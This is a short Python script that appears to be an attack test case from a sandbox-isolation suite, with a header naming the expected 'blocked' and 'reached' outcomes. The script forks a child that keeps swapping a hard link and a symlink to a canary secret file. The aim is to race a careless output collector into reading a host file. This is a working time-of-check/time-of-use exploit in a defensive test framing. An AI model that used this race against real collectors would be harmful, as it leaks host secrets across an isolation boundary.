# /// attack
# tries = "have a file of the host taken by whoever looks first and opens then: a child that outlives it swaps file and link"
# requirement = "F5"
# layer = "collection"
# [control]
# stdout = "reached {file_secret}"
# [inside]
# stdout = "blocked"
# within = 20
# ///
import json
import os
import signal
import sys
import time

canary = json.loads(sys.argv[1])
with open("own", "w") as file:
    file.write("its own")
os.symlink(canary["secret_file"], "result.csv")
end = time.monotonic() + 3
child = os.fork()
if child == 0:
    # Nobody who closes this waits for it.
    os.close(1)
    while time.monotonic() < end:
        os.link("own", "next")
        os.rename("next", "result.csv")
        os.symlink(canary["secret_file"], "next")
        os.rename("next", "result.csv")
    os._exit(0)
outcome = "blocked"
while time.monotonic() < end - 1:
    try:
        # What a careless collector does.
        if not os.path.islink("result.csv"):
            with open("result.csv") as file:
                text = file.read()
            if text != "its own":
                outcome = "reached " + text
                break
    except OSError:
        pass
if canary["outside"]:
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
print(outcome)
